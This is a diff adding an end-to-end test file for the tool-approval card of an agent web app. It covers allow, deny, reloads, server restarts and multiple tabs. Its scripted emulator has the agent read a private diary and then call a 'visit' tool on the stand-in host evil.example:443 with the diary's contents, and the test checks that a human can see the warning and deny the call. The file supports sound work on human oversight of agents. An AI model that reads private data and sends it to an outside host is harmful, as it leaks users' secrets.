@@ -1,0 +1,209 @@
+"""A person is asked before a tool acts: the card, its buttons, reloads, restarts, other tabs."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.async_api import Locator, Page, expect
+
+from agentweb.emulator import server
+from agentweb.emulator.script import Script, after, call, say, when
+from agentweb.emulator.server import EmulatorServer
+from tests import toys
+from tests.e2e import served as app
+from tests.e2e.conftest import Snap, Watch, observe
+from tests.e2e.people import ended, log_in, set_up, start_chat, turn
+from tests.e2e.people import say as send
+from tests.e2e.served import Served
+
+pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="session")]
+PROGRAM = ("-m", "tests.e2e.toyshop")
+LETTER = "Dear Grace,\n\nthe figures are on page\u202e7 \u200bof the <b>report</b>.\n\nYours, Ada"
+SCRIPT = Script([
+    when("letter", say("I write to her."), call("post", to="grace@example.org", text=LETTER)),
+    when("diary", call("read_diary")),
+    when("fire", call("fire", at="the old barn")),
+    after("read_diary", call("visit", host="evil.example:443", said="what the diary says")),
+    after("post", say("It says: {result}")),
+    after("visit", say("It says: {result}")),
+    after("fire", say("It says: {result}")),
+    when("", say("Yes.")),
+])  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def api() -> Iterator[EmulatorServer]:
+    with server.start(pace=0, script=SCRIPT) as running:
+        yield running
+
+
+def settings(api: EmulatorServer, data: Path) -> dict[str, str]:
+    return {
+        "ANTHROPIC_API_KEY": "sk-test",
+        "ANTHROPIC_BASE_URL": api.url,
+        "AGENTWEB_TITLE_MODEL": "off",
+        toys.RAN: str(data / "ran"),
+    }
+
+
+@pytest.fixture(scope="module")
+def served(api: EmulatorServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    data = tmp_path_factory.mktemp("approvals") / "data"
+    running = app.start(data, PROGRAM, **settings(api, data))
+    yield running
+    running.stop()
+
+
+def card(page: Page) -> Locator:
+    return page.locator(".question")
+
+
+def ran(served: Served) -> list[str]:
+    return [name for name, _ in toys.ran(served.data / "ran")]
+
+
+async def test_an_allowed_letter_is_sent_once_with_what_was_shown(
+    page: Page, served: Served, snap: Snap
+) -> None:
+    await set_up(page, served)
+    await start_chat(page, served, "Write her a letter")
+    await expect(card(page)).to_be_visible()
+    await expect(card(page)).to_contain_text("mail:grace@example.org")
+    await expect(card(page)).to_contain_text("Dear Grace,")
+    # Hidden characters are seen, and text is text.
+    await expect(card(page)).to_contain_text("page⟨U+202E⟩7 ⟨U+200B⟩of the <b>report</b>")
+    await expect(page).to_have_title(re.compile("Waits for you"))
+    await expect(page.locator(".row[aria-current] .asks")).to_be_visible()
+    await snap("approval asked")
+    before = ran(served).count("post")
+    await card(page).get_by_role("button", name="Allow once").click()
+    section = await ended(page, 1)
+    await expect(section).to_contain_text("It says: post has run")
+    assert ran(served).count("post") == before + 1
+    await expect(card(page)).to_have_count(0)
+    await expect(page).not_to_have_title(re.compile("Waits for you"))
+    await expect(page.locator(".row[aria-current] .asks")).to_be_hidden()
+
+
+async def test_a_denied_call_does_not_run_and_the_model_is_told(page: Page, served: Served) -> None:
+    await set_up(page, served)
+    await start_chat(page, served, "Set fire to it")
+    await expect(card(page)).to_contain_text("the old barn")
+    before = ran(served).count("fire")
+    # By the keyboard alone.
+    await card(page).get_by_role("button", name="Allow once").focus()
+    for _ in range(2):
+        await page.keyboard.press("Tab")
+    await expect(card(page).get_by_role("button", name="Deny")).to_be_focused()
+    await page.keyboard.press("Enter")
+    section = await ended(page, 1)
+    await expect(section).to_contain_text("did not allow this call")
+    await expect(section.locator(".tool .state").first).to_have_text(re.compile("not allowed"))
+    assert ran(served).count("fire") == before
+
+
+async def test_what_is_allowed_for_the_chat_is_not_asked_again_there(
+    page: Page, served: Served
+) -> None:
+    await set_up(page, served)
+    await start_chat(page, served, "Set fire to it")
+    await card(page).get_by_role("button", name="Allow every fire in this chat").click()
+    await ended(page, 1)
+    await send(page, "And fire again")
+    await expect(await ended(page, 2)).to_contain_text("It says: fire has run")
+
+
+async def test_after_a_private_reading_it_says_why_it_asks(page: Page, served: Served) -> None:
+    await set_up(page, served)
+    await start_chat(page, served, "Read the diary")
+    await expect(card(page)).to_contain_text("evil.example:443")
+    await expect(card(page)).to_contain_text("private data was read before (read_diary)")
+    await card(page).get_by_role("button", name="Deny").click()
+    await ended(page, 1)
+    assert "visit" not in ran(served)
+
+
+async def test_the_question_survives_a_reload_and_is_the_same_in_two_tabs(
+    page: Page, served: Served
+) -> None:
+    await set_up(page, served)
+    await start_chat(page, served, "Set fire to it")
+    await expect(card(page)).to_be_visible()
+    await page.reload()
+    await expect(card(page)).to_be_visible()
+    watch, other = Watch(), await page.context.new_page()
+    observe(other, watch)
+    await other.goto(page.url)
+    await expect(card(other)).to_be_visible()
+    # What is sent meanwhile waits for the answer.
+    await send(page, "Are you there?")
+    await expect(page.locator("#queue")).to_contain_text("Are you there?")
+    await card(other).get_by_role("button", name="Deny").click()
+    for tab in (page, other):
+        await ended(tab, 1)
+        await expect(card(tab)).to_have_count(0)
+        await expect(await ended(tab, 2)).to_contain_text("Yes.")
+    assert watch.errors == []
+    await other.close()
+
+
+async def test_a_stop_ends_a_turn_that_waits(page: Page, served: Served) -> None:
+    await set_up(page, served)
+    await start_chat(page, served, "Set fire to it")
+    await expect(card(page)).to_be_visible()
+    await page.locator("#stop").click()
+    await expect(await ended(page, 1)).to_contain_text("Stopped")
+    await expect(card(page)).to_have_count(0)
+
+
+async def test_the_question_survives_a_restart_of_the_server(
+    page: Page, watch: Watch, api: EmulatorServer, tmp_path: Path
+) -> None:
+    data = tmp_path / "data"
+    first = app.start(data, PROGRAM, **settings(api, data))
+    await set_up(page, first)
+    await start_chat(page, first, "Set fire to it")
+    await expect(card(page)).to_be_visible()
+    # Killed, not asked to end.
+    first.process.kill()
+    first.process.wait(timeout=20)
+    second = app.start(data, PROGRAM, first.port, **settings(api, data))
+    try:
+        await page.reload()
+        if "login" in page.url:
+            await log_in(page, second)
+        await expect(card(page)).to_be_visible()
+        await card(page).get_by_role("button", name="Allow once").click()
+        await expect(await ended(page, 1)).to_contain_text("It says: fire has run")
+        assert toys.ran(data / "ran")[0][0] == "fire"
+        assert len(toys.ran(data / "ran")) == 1
+        await expect(turn(page, 1)).to_have_attribute("data-live", "")
+        # Nobody may miss a server that is gone, this page least of all.
+        await page.goto("about:blank")
+        # Of the socket, while there was no server.
+        watch.errors.clear()
+    finally:
+        second.stop()
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+@pytest.mark.parametrize("width", [390, 1280])
+async def test_the_card_fits_every_page(
+    page: Page, served: Served, snap: Snap, width: int, theme: str
+) -> None:
+    await page.set_viewport_size({"width": width, "height": 860})
+    await page.emulate_media(color_scheme="dark" if theme == "dark" else "light")
+    await set_up(page, served)
+    await start_chat(page, served, "Write her a letter")
+    await expect(card(page)).to_be_visible()
+    assert await page.evaluate("document.scrollingElement.scrollWidth <= innerWidth")
+    for button in await card(page).get_by_role("button").all():
+        box = await button.bounding_box()
+        assert box is not None
+        assert min(box["width"], box["height"]) >= 24
+    await snap(f"approval {width} {theme}")
+    await page.locator("#stop").click()
+    await ended(page, 1)
